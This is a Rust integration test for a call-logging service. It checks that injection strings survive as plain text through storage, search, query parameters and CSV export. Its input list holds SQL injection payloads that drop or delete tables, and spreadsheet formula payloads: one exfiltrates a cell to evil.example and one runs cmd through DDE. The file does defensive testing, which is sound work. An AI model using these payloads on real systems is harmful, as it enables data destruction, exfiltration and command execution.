//! Texts that would be something else elsewhere: statements to a database, formulas to a spreadsheet. Both databases.
#![cfg(unix)]

use jackfield_tests::postgres::Postgres;
use serde_json::{Value, json};

use super::*;

/// What people write who want more than they may have.
const NASTY: [&str; 9] = [
    "'; DROP TABLE calls; --",
    "\" OR \"\"=\"",
    "' OR '1'='1",
    "$1",
    "%",
    "100%_!",
    "\\'; DELETE FROM timeline; --",
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

/// A text in the query of an address.
fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

fn ask(host: &Host, path: &str) -> Value {
    let answer = host.get(path, ADMIN).unwrap();
    assert_eq!(answer.status, 200, "{path}: {}", answer.body);
    answer.json()
}

fn nothing_is_more_than_a_text(store: &str) {
    let host = Setup::new(config(store), &["simulator"]).start().unwrap();
    let mut alice = host.client(ALICE).unwrap();
    let mut ids = Vec::new();
    for nasty in NASTY {
        let id = ring(&mut alice, "sim/101", "+380441234567", nasty);
        alice.call("dropCall", &json!({ "line": "sim/101", "callId": id })).unwrap();
        saved(&mut alice, &id);
        let body = json!({ "comment": nasty, "links": [{ "kind": nasty, "id": nasty, "title": nasty }] }).to_string();
        let word = [("Content-Type", "application/merge-patch+json"), ("If-Match", "*")];
        let edited = host.request("PATCH", &format!("/api/v1/calls/{id}"), ALICE, &word, &body).unwrap();
        assert_eq!(edited.status, 200, "{}", edited.body);
        ids.push(id);
    }
    for (nasty, id) in NASTY.iter().zip(&ids) {
        let call = ask(&host, &format!("/api/v1/calls/{id}"));
        assert_eq!((&call["caller"]["name"], &call["comment"]), (&json!(nasty), &json!(nasty)));
        assert_eq!(call["links"][0]["id"], json!(nasty));
        let found = ask(&host, &format!("/api/v1/calls?text={}", encoded(nasty)));
        let found: Vec<&Value> = found["calls"].as_array().unwrap().iter().map(|call| &call["comment"]).collect();
        let expected = NASTY.iter().rev().filter(|other| other.to_lowercase().contains(&nasty.to_lowercase()));
        assert_eq!(found, expected.map(|text| json!(text)).collect::<Vec<_>>().iter().collect::<Vec<_>>(), "{nasty}");
        // Where no such text belongs it finds nothing, or is refused in words.
        for (key, statuses) in
            [("line", [200, 200]), ("number", [200, 400]), ("cursor", [400, 400]), ("from", [400, 400])]
        {
            let answer = host.get(&format!("/api/v1/calls?{key}={}", encoded(nasty)), ADMIN).unwrap();
            assert!(statuses.contains(&answer.status), "{key}={nasty}: {} {}", answer.status, answer.body);
            if answer.status == 200 {
                assert_eq!(answer.json()["calls"], json!([]), "{key}={nasty}");
            }
        }
        assert_eq!(host.get(&format!("/api/v1/calls/{}", encoded(nasty)), ADMIN).unwrap().status, 404);
    }
    let list = ask(&host, "/api/v1/calls");
    assert_eq!(list["calls"].as_array().map(Vec::len), Some(NASTY.len()), "all of them are still there");
    let csv = host.get("/api/v1/calls.csv", ADMIN).unwrap().body;
    let lines: Vec<Vec<String>> = csv.lines().map(cells).collect();
    assert_eq!(lines.len(), NASTY.len() + 1);
    let (name, comment) = (column(&lines[0], "callerName"), column(&lines[0], "comment"));
    for (line, nasty) in lines[1..].iter().rev().zip(NASTY) {
        for cell in line {
            let begin = cell.chars().next().unwrap_or('x');
            let is_number = cell.strip_prefix('+').is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_digit()));
            assert!(!"=-@\t\r".contains(begin) && (begin != '+' || is_number), "a spreadsheet would reckon: {cell}");
        }
        for cell in [&line[name], &line[comment]] {
            assert_eq!(cell.trim_start_matches('\''), nasty.trim_start_matches('\''), "what it was can be read");
        }
    }
}

fn column(head: &[String], name: &str) -> usize {
    head.iter().position(|cell| cell == name).unwrap()
}

/// The cells of a line, as RFC 4180 reads it.
fn cells(line: &str) -> Vec<String> {
    let (mut cells, mut cell, mut quoted) = (Vec::new(), String::new(), false);
    let mut rest = line.chars().peekable();
    while let Some(c) = rest.next() {
        match (c, quoted) {
            ('"', true) if rest.peek() == Some(&'"') => {
                cell.push('"');
                rest.next();
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(std::mem::take(&mut cell)),
            (c, _) => cell.push(c),
        }
    }
    cells.push(cell);
    cells
}

#[test]
fn in_a_file_nothing_is_more_than_a_text() {
    nothing_is_more_than_a_text("url = \"sqlite://calls.db\"");
}

#[test]
fn in_postgres_nothing_is_more_than_a_text() {
    let Some(server) = Postgres::start().unwrap() else { return };
    nothing_is_more_than_a_text(&format!("url = \"{}\"", server.url()));
}
